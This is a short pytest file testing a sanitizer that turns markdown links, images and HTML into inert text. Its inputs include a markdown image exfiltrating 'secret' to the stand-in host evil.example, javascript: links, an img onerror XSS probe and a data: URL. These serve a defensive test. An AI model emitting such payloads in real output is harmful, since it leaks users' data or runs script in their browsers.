import pytest

from query_engine.plain_text import as_text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![cat](http://evil.example/?q=secret)", "[cat] (evil.example/?q=secret)"),
        ("[click](javascript:alert(1))", "[click] (alert(1))"),
        ("[click][1]", "[click][1]"),
        ("see [1] and [2][3].", "see [1] and [2][3]."),
        ("[x]: https://evil.example", "[x] : evil.example"),
        ("<img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"),
        ("</script><!-- x -->", "< /script>< !-- x -->"),
        ("<https://evil.example>", "< evil.example>"),
        ("go to www.evil.example now", "go to evil.example now"),
        ("DATA:text/html,x", "text/html,x"),
        ("a < b and c > d, 5:30, note: this", "a < b and c > d, 5:30, note: this"),
        ("data: 42\n\nevent: done", "data: 42\n\nevent: done"),
        ("**bold** `code` stays", "**bold** `code` stays"),
    ],
)
def test_links_images_and_tags_become_text(text: str, shown: str) -> None:
    assert as_text(text) == shown
